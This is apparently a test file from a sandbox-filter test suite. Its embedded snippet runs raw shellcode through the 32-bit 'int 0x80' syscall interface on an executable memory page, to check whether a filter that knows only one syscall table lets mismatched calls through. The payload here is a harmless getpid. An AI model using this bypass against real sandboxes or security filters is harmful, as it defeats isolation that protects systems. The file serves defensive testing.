"""Make a system call of the 32-bit table, whose numbers mean other calls.

A filter that knows one table of numbers says yes to the wrong calls in the other.
"""

from tests.attacks.weakenings import no_filter

CODE = """
import ctypes, mmap
# push rbx; mov eax, 20 (getpid); int 0x80; pop rbx; ret
code = bytes.fromhex('53b814000000cd805bc3')
page = mmap.mmap(-1, 4096, prot=7)
page.write(code)
start = ctypes.addressof(ctypes.c_char.from_buffer(page))
if 0 < ctypes.CFUNCTYPE(ctypes.c_int)(start)() < 2**22:
    print('@TAG@'[::-1])
"""
CELLS = {"double": CODE}
CONTROL = no_filter


def succeeded(after):
    return after.proved
